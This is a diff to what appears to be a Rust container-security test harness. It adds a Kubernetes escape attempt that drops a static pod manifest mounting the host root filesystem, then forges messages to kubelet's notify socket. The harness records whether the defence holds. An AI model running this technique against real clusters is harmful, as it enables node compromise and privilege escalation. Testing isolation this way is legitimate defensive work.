@@ -74,6 +74,45 @@ pub fn through_volume(target: &mut Target) -> Vec<Attack> {
     attacks
 }
 
+/// A pod with a part of the node's file systems, which kubelet binds for it: of those that kubelet sees.
+const SEEING: &str = r#"
+apiVersion: v1
+kind: Pod
+metadata: {name: seeing, namespace: default}
+spec:
+  hostNetwork: true
+  terminationGracePeriodSeconds: 1
+  containers:
+    - name: seeing
+      image: localhost/container-a:1
+      imagePullPolicy: Never
+      command: [sh, -c, "sleep 900"]
+      volumeMounts: [{name: root, mountPath: /seen, subPath: kios}]
+  volumes: [{name: root, hostPath: {path: /}}]
+"#;
+
+/// Kubelet's sockets, by such a pod.
+pub fn through_kubelet(target: &mut Target) -> Vec<Attack> {
+    // Put there whole: kubelet looks again at what it could not read after 20 s.
+    let manifests = "/host/etc/kubernetes/manifests";
+    let said = target.sh(&format!(
+        "cat >{manifests}.seeing <<'END'{SEEING}END\n\
+         mv {manifests}.seeing {manifests}/seeing.yaml; \
+         for n in $(seq 600); do for pid in $(ls /proc | grep '^[0-9]'); do \
+         [ ! -S /proc/$pid/root/seen/notify ] || {{ ls /proc/$pid/root/seen; \
+         /tmp/intruder forge /proc/$pid/root/seen/notify $(pidof kubelet) STATUS=; break 2; }}; done; \
+         grep -m 1 -o 'failed to prepare subPath.*' /host/var/log/kubelet.log && break; sleep 0.1; done; \
+         rm {manifests}/seeing.yaml"
+    ));
+    let verdict = if said.contains("forged: open") {
+        Verdict::Broken(said.replace('\n', " "))
+    } else {
+        assert!(said.contains("failed to prepare subPath"), "{said}");
+        Verdict::Held("kubelet cannot bind it".into())
+    };
+    vec![Attack::new("kubelet's sockets, as a subPath", verdict)]
+}
+
 /// Makes them one after the other.
 pub fn attacks(target: &mut Target) -> Vec<Attack> {
     let before = first_mounts(target);
